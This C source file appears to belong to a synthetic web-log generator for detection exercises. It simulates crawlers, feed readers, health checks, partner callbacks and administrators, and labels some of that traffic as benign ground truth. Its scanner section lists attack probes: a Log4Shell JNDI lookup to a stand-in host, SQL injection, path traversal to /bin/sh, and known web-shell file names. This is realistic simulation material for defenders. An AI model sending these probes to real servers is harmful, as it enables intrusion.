/*
 * web_machines.c - requests that no person makes: crawlers, feed readers, health checks, the mobile application,
 * payment services and partners that post without a referrer, and scanners for what isn't there. And a few
 * administrators at pages that hardly anybody knows. Several of these look like a web shell in use until one looks
 * twice.
 */
#include "web.h"

#include <stdio.h>

static double share(const struct scenario *s)
{
    return s->coverage[1] < 1 ? s->coverage[1] : 1;
}

static void ordinary_truth(struct scenario *s, int64_t hour, const char *what, const char *path)
{
    if (hour != s->start || s->counting)
        return;
    struct truth_item *item = truth_open(s, "ordinary-path", "ordinary", "");
    truth_negative(item);
    truth_entity(item, "path", "%s", path);
    truth_entity(item, "what", "%s", what);
}

void web_crawlers(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const struct {
        uint32_t net;
        double an_hour;
        const char *agent;
    } crawlers[] = {
        {ADDRESS(66, 249, 66, 0), 240, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
        {ADDRESS(40, 77, 167, 0), 160,
         "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
         "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"},
        {ADDRESS(54, 36, 148, 0), 110, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"},
        {ADDRESS(5, 255, 253, 0), 60, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"},
        {ADDRESS(47, 128, 0, 0), 90, "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)"},
    };
    for (unsigned k = 0; k < COUNT(crawlers); k++) {
        stream_at(stream, k, hour);
        struct chance *c = &stream->chance;
        for (unsigned n = chance_poisson(c, crawlers[k].an_hour * share(s)); n > 0; n--) {
            const struct target *page = &s->site->pages[chance_below(c, SITE_PAGES)];
            bool robots = chance_is(c, 0.01);
            bool old = chance_is(c, 0.03);
            struct request r = {.time = within_hour(stream, hour),
                                .client = crawlers[k].net + 1 + chance_zipf(c, 200),
                                .method = "GET",
                                .uri = robots ? "/robots.txt" : page->uri,
                                .agent = crawlers[k].agent,
                                .status = robots             ? 200
                                          : old              ? 404
                                          : chance_is(c, .1) ? 304
                                                             : 200};
            r.bytes = robots ? 412 : old ? 2148 : r.status == 304 ? 0 : page_size(c, page->size);
            web_emit(s, stream, &r);
        }
    }
}

/* Readers of feeds: each at its own period, for ever. */
void web_feeds(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const char *const agents[] = {"Feedly/1.0 (+https://feedly.com/poller.html; 12 subscribers)",
                                         "NewsBlur Feed Fetcher - 3 subscribers", "Tiny Tiny RSS/24.08",
                                         "FreshRSS/1.24", "curl/8.5.0"};
    for (unsigned i = 0; i < 60; i++) {
        uint64_t own = trait(stream, i);
        if (fraction_of(mix1(own)) >= s->coverage[1])
            continue;
        int64_t period = (10 + (int64_t)(own % 11) * 10) * MINUTE;
        int64_t phase = (int64_t)(fraction_of(own) * (double)period);
        stream_at(stream, i, hour);
        for (int64_t when = (hour - phase) / period * period + phase; when < hour + HOUR; when += period) {
            bool news = chance_is(&stream->chance, 0.15);
            struct request r = {.time = when + chance_from(&stream->chance, 0, 4000) * 1000000ll,
                                .client = hosting_address(own),
                                .method = "GET",
                                .uri = i % 4 == 0 ? "/news/feed.xml" : "/feed.xml",
                                .agent = agents[own % COUNT(agents)],
                                .status = news ? 200 : 304,
                                .bytes = news ? 48000 + own % 90 : 0};
            if (when >= hour)
                web_emit(s, stream, &r);
        }
    }
}

/* The load balancer each ten seconds, two companies each minute, the own monitoring each minute. */
void web_health(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const struct {
        uint32_t from;
        unsigned seconds;
        const char *uri, *agent;
    } checks[] = {
        {ADDRESS(10, 20, 5, 2), 10, "/health", "ELB-HealthChecker/2.0"},
        {ADDRESS(10, 20, 5, 3), 10, "/health", "ELB-HealthChecker/2.0"},
        {ADDRESS(63, 143, 42, 241), 60, "/", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
        {ADDRESS(63, 143, 42, 242), 60, "/shop/",
         "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
        {ADDRESS(10, 20, 1, 40), 60, "/status.php", "check_http/v2.3.3 (monitoring-plugins 2.3.3)"},
    };
    ordinary_truth(s, hour, "asked by the monitoring host alone", "/status.php");
    for (unsigned i = 0; i < COUNT(checks); i++) {
        if (fraction_of(trait(stream, i)) >= s->coverage[1])
            continue;
        stream_at(stream, i, hour);
        for (int64_t when = hour + i * 777000000ll; when < hour + HOUR; when += checks[i].seconds * SW_SECOND) {
            struct request r = {.time = when + chance_from(&stream->chance, 0, 30) * 1000000ll,
                                .client = checks[i].from,
                                .method = i == 2 ? "HEAD" : "GET",
                                .uri = checks[i].uri,
                                .agent = checks[i].agent,
                                .status = 200,
                                .bytes = i == 2   ? 0
                                         : i < 2  ? 2
                                         : i == 4 ? 1873
                                                  : page_size(&stream->chance, 21000)};
            web_emit(s, stream, &r);
        }
    }
}

/* The mobile application: an API, JSON back and forth, no referrer. */
void web_application(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const char *const calls[] = {"/api/v2/session",    "/api/v2/feed",          "/api/v2/tides",
                                        "/api/v2/favourites", "/api/v2/push/register", "/api/v2/events"};
    stream_at(stream, 0, hour);
    struct chance *c = &stream->chance;
    for (unsigned n = chance_poisson(c, 160 * share(s) * (0.3 + busyness(ZONE_HEADQUARTERS, hour))); n > 0; n--) {
        uint64_t who = mix2(trait(stream, 1), chance_zipf(c, 60000));
        int64_t when = within_hour(stream, hour);
        for (unsigned k = chance_from(c, 2, 9); k > 0; k--, when += chance_from(c, 100, 9000) * 1000000ll) {
            struct request r = {.time = when,
                                .client = residential_address(who),
                                .uri = calls[chance_zipf(c, COUNT(calls))],
                                .agent = who % 2 == 0 ? "HarbourApp/5.2 (iPhone; iOS 18.1)" : "okhttp/4.12.0",
                                .status = chance_is(c, .02) ? 401 : 200};
            r.method = r.uri[8] == 'e' || r.uri[8] == 'p' || r.uri[8] == 's' ? "POST" : "GET";
            r.bytes = r.status == 401 ? 61 : page_size(c, 600 + (unsigned)(who % 3000));
            web_emit(s, stream, &r);
        }
    }
}

/* Three people have their calendars in an old DAV script: POST and REPORT, no referrer, answers of any size, from the
 * first day on. */
static void calendars(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const char *const agents[] = {
        "DAVx5/4.4.2-ose (dav4jvm; okhttp/4.12.0) Android/14", "iOS/17.5 (21F79) accountsd/1.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.1.0"};
    ordinary_truth(s, hour, "three people's calendars, REPORT and POST, varied sizes", "/intern/dav.php/calendars/");
    for (unsigned i = 0; i < 3; i++) {
        stream_at(stream, 200 + i, hour);
        struct chance *c = &stream->chance;
        if (fraction_of(trait(stream, 20 + i)) >= s->coverage[1])
            continue;
        for (unsigned n = chance_poisson(c, 3 * (0.2 + busyness(ZONE_HEADQUARTERS, hour))); n > 0; n--) {
            struct request r = {.time = within_hour(stream, hour),
                                .client = residential_address(trait(stream, 10 + i)),
                                .method = chance_is(c, 0.5) ? "POST" : "REPORT",
                                .uri = "/intern/dav.php/calendars/",
                                .agent = agents[i],
                                .status = 207,
                                .bytes = (uint64_t)chance_scaled(c, 1500, 1.8)};
            web_emit(s, stream, &r);
        }
    }
}

/* A payment service tells of payments; a partner fetches orders every quarter of an hour; an agency deploys by a hook.
 */
void web_partners(struct scenario *s, struct stream *stream, int64_t hour)
{
    ordinary_truth(s, hour, "three addresses of a payment service, POST, no referrer", "/shop/notify.php");
    ordinary_truth(s, hour, "one partner, POST each quarter of an hour, varied sizes", "/api/partner/orders.php");
    ordinary_truth(s, hour, "one agency, POST some times a week", "/hooks/deploy.php");
    calendars(s, stream, hour);
    stream_at(stream, 0, hour);
    struct chance *c = &stream->chance;
    for (unsigned n = chance_poisson(c, 14 * share(s)); n > 0; n--) {
        struct request r = {.time = within_hour(stream, hour),
                            .client = ADDRESS(54, 187, 174, 169) + chance_below(c, 3),
                            .method = "POST",
                            .uri = "/shop/notify.php",
                            .agent = "PaymentHooks/1.0 (+https://pay.example/docs)",
                            .status = 200,
                            .bytes = 16};
        web_emit(s, stream, &r);
    }
    for (unsigned q = 0; q < 4 && fraction_of(trait(stream, 2)) < s->coverage[1]; q++) {
        struct request r = {.time = hour + q * 15 * MINUTE + chance_from(c, 0, 3000) * 1000000ll,
                            .client = hosting_address(trait(stream, 3)),
                            .method = "POST",
                            .uri = "/api/partner/orders.php",
                            .agent = "Apache-HttpClient/4.5.14 (Java/17.0.12)",
                            .status = 200,
                            .bytes = (uint64_t)chance_scaled(c, 4000, 1.5)};
        web_emit(s, stream, &r);
    }
    if (is_working_day(ZONE_HEADQUARTERS, hour) && chance_is(c, 0.02)) {
        struct request r = {.time = within_hour(stream, hour),
                            .client = hosting_address(trait(stream, 4)),
                            .method = "POST",
                            .uri = "/hooks/deploy.php",
                            .agent = "GitHub-Hookshot/044aadd",
                            .status = 200,
                            .bytes = 640 + chance_below(c, 900)};
        web_emit(s, stream, &r);
    }
}

/* Editors every day; one accountant each Monday; a page that one person alone uses. */
void web_administrators(struct scenario *s, struct stream *stream, int64_t hour)
{
    ordinary_truth(s, hour, "one accountant inside, Mondays", "/admin/export.php");
    ordinary_truth(s, hour, "one person at home, some evenings, old bookmark", "/intern/berths-old.php");
    const struct world *w = s->world;
    stream_at(stream, 0, hour);
    struct chance *c = &stream->chance;
    struct request r = {.client = the(w, ROLE_PROXY)->address, .agent = s->site->agents[0]};
    for (unsigned n = chance_poisson(c, 25 * busyness(ZONE_HEADQUARTERS, hour + HOUR / 2) * share(s)); n > 0; n--) {
        static const char *const pages[] = {"/admin/index.php", "/admin/edit.php?post=211", "/admin/media.php",
                                            "/admin/upload.php", "/admin/comments.php"};
        r.time = within_hour(stream, hour);
        r.uri = pages[chance_zipf(c, COUNT(pages))];
        r.method = chance_is(c, 0.4) ? "POST" : "GET";
        r.referrer = SITE_ORIGIN "/admin/index.php";
        r.status = r.method[0] == 'P' ? 302 : 200;
        r.bytes = r.method[0] == 'P' ? 0 : page_size(c, 31000);
        web_emit(s, stream, &r);
    }
    int64_t local = hour + zone_offset(ZONE_HEADQUARTERS, hour);
    if (weekday_of(local / SW_DAY) == 0 && local % SW_DAY / HOUR == 10)
        for (unsigned n = 0; n < 6; n++) {
            r.time = hour + (5 + n) * MINUTE + chance_below(c, 60) * SW_SECOND, r.uri = "/admin/export.php",
            r.method = n == 0 ? "GET" : "POST", r.status = 200;
            r.referrer = SITE_ORIGIN "/admin/export.php", r.bytes = (uint64_t)chance_scaled(c, 60000, 1);
            web_emit(s, stream, &r);
        }
    if (local % SW_DAY / HOUR == 20 && chance_is(c, 0.3))
        for (unsigned n = chance_from(c, 1, 3); n > 0; n--) {
            struct request old = {.time = within_hour(stream, hour),
                                  .client = residential_address(trait(stream, 9)),
                                  .method = "GET",
                                  .uri = "/intern/berths-old.php",
                                  .agent = s->site->agents[3],
                                  .status = 200,
                                  .bytes = 9100 + chance_below(c, 80)};
            web_emit(s, stream, &old);
        }
}

/* What every server on the internet is asked for, all day. Now and then somebody brings a whole list. */
void web_scanners(struct scenario *s, struct stream *stream, int64_t hour)
{
    static const char *const probes[] = {"/.env",
                                         "/wp-login.php",
                                         "/xmlrpc.php",
                                         "/.git/config",
                                         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                         "/cgi-bin/luci/;stok=/locale",
                                         "/manager/html",
                                         "/solr/admin/info/system",
                                         "/actuator/env",
                                         "/owa/auth/logon.aspx",
                                         "/autodiscover/autodiscover.json?@a.example/mapi/nspi",
                                         "/?x=${jndi:ldap://192.0.2.66/a}",
                                         "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                                         "/boaform/admin/formLogin",
                                         "/phpmyadmin/index.php",
                                         "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                                         "/dana-na/auth/url_default/welcome.cgi",
                                         "/index.php?id=1%27%20or%20%271%27=%271",
                                         "/uploads/shell.php",
                                         "/c99.php",
                                         "/wp-content/plugins/hellopress/wp_filemanager.php",
                                         "/alfa.php",
                                         "/wso.php",
                                         "/backup.zip",
                                         "/old/index.php",
                                         "/admin.php",
                                         "/login.action",
                                         "/api/v1/pods"};
    static const char *const agents[] = {"Mozilla/5.0 zgrab/0.x",
                                         "python-requests/2.32.3",
                                         "curl/8.5.0",
                                         "Go-http-client/1.1",
                                         "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                         NULL};
    stream_at(stream, 0, hour);
    struct chance *c = &stream->chance;
    for (unsigned n = chance_poisson(c, 70 * share(s)); n > 0; n--) {
        uint32_t from = hosting_address(mix2(0x5ca2, chance_zipf(c, 300000)));
        const char *agent = CHANCE_OF(c, agents);
        int64_t when = within_hour(stream, hour);
        for (unsigned k = 1 + chance_zipf(c, 8); k > 0; k--, when += chance_from(c, 200, 3000) * 1000000ll) {
            const char *uri = CHANCE_OF(c, probes);
            bool post = strstr(uri, "eval") != NULL || chance_is(c, 0.1);
            struct request r = {.time = when,
                                .client = from,
                                .method = post ? "POST" : "GET",
                                .uri = uri,
                                .agent = agent,
                                .status = uri[1] == '?' || uri[1] == 'i' ? 200 : 404};
            r.server = chance_is(c, 0.12) ? SERVER_IIS : SERVER_NGINX;
            if (r.server == SERVER_IIS)
                r.status = 404;
            r.bytes = r.status == 404 ? 2148 : page_size(c, s->site->pages[0].size);
            web_emit(s, stream, &r);
        }
    }
    if (chance_is(c, 0.03 * share(s))) {
        uint32_t from = hosting_address(chance_next(c));
        int64_t when = within_hour(stream, hour);
        for (unsigned n = 0; n < 900; n++, when += chance_from(c, 20, 400) * 1000000ll) {
            char uri[64];
            (void)snprintf(uri, sizeof uri, "/%s%u.%s",
                           n % 3 == 0   ? "backup"
                           : n % 3 == 1 ? "test"
                                        : "db",
                           n / 3, n % 2 == 0 ? "php" : "sql.gz");
            struct request r = {.time = when,
                                .client = from,
                                .method = "GET",
                                .uri = uri,
                                .agent = "Mozilla/5.0 (X11; Linux x86_64) gobuster/3.6",
                                .status = 404,
                                .bytes = 2148};
            web_emit(s, stream, &r);
        }
    }
    if (chance_is(c, 0.5 * share(s))) { /* TLS to the port without */
        struct request r = {.time = within_hour(stream, hour),
                            .client = hosting_address(chance_next(c)) | 4,
                            .method = "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00",
                            .uri = "\\xC6\\xAA",
                            .status = 400,
                            .bytes = 150};
        web_emit(s, stream, &r);
    }
}
